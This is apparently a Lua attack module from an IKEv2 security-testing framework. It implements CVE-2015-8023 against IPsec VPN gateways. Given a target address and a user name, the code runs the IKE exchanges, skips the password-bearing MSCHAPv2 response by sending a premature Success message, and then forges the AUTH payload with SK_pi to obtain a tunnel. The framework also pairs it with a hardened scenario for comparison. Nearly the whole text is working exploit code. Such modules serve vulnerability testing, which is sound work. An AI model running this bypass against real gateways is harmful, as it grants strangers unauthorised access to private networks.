-- A method of EAP is a conversation with an order: challenge, response, proof, and the word that all is well. A server that does not remember where
-- it stands can be told the last word first.
attack = {
  id = "CVE-2015-8023", name = "skip-the-password",
  about = "Answers the challenge of EAP-MSCHAPv2 with its last message, Success, and leaves out the response that needs a password",
  position = "off-path",
  needs = "a user's name",
  source = "CVE-2015-8023; draft-kamath-pppext-eap-mschapv2; RFC 7296, 2.16",
  unseen = "the conversation of EAP is inside the encrypted IKE_AUTH; only the gateway sees that the password was left out",
  shows = {
    vulnerable = "the gateway takes the last word for the whole conversation: a stranger is the user, and has a tunnel",
    hardened = "Success without a response before it is a failure: AUTHENTICATION_FAILED",
  },
  scenarios = { vulnerable = "skip-the-password", hardened = "skip-the-password-patched" },
}

local caller = library "caller"

-- Parameters: target, own, user = the name of a user, first, last = addresses it asks for
local p, me = nil, nil
local goal = "be a user without the password"

function on_start(params)
  p = params
  assert(p.target and p.own and p.user, "parameters target, own, user")
  timer.after("1s", "begin")
end
function on_timer() me = caller.call(p) end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or not caller.answered(me, message) then return end
  me.id = ike.id("i", 3, p.user)
  caller.request(me, 35, 1, { me.id, caller.child(p.first or "10.8.0.66", p.last) },
    "IKE_AUTH without AUTH: " .. p.user .. " wants to prove itself by EAP")
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet, message)
  local inner = me and ring.open(packet)
  if not inner or me.done then return end
  local asked = find(inner, "EAP")
  local said = asked and eap.read(asked.data)
  if said and said.code == 1 and said.type == 26 and said.data:byte(1) == 1 then
    learn("challenge", "16 octets that only the password can answer", "EAP payload", said.data:sub(6, 21))
    return caller.request(me, 35, 2, { { number = 48, body = eap.packet(2, said.identifier, 26, "\3") } }, "EAP-MSCHAPv2 Success in the place of a response")
  end
  if said and said.code == 3 then
    mark("The gateway says EAP-Success; nobody has shown a password.")
    -- EAP gave no key: AUTH is made with SK_pi
    local auth = ike.psk_auth(me.suite.prf, me.keys.sk_pi, caller.signed_octets(me, me.id))
    return caller.request(me, 35, message.message_id + 1, { ike.auth(2, auth) }, "AUTH, made with SK_pi")
  end
  me.done = true
  if notify_of(inner, "AUTHENTICATION_FAILED") or (said and said.code == 4) then
    return achieved(goal, false, "EAP-Failure: a last word without the ones before it")
  end
  achieved(goal, true, "the gateway believes that " .. p.user .. " has called" .. (find(inner, "SA") and ", and opened a tunnel into its network" or ""))
end)

function on_finish()
  if not (me and me.done) then achieved(goal, false, "IKE_AUTH came to no end") end
end
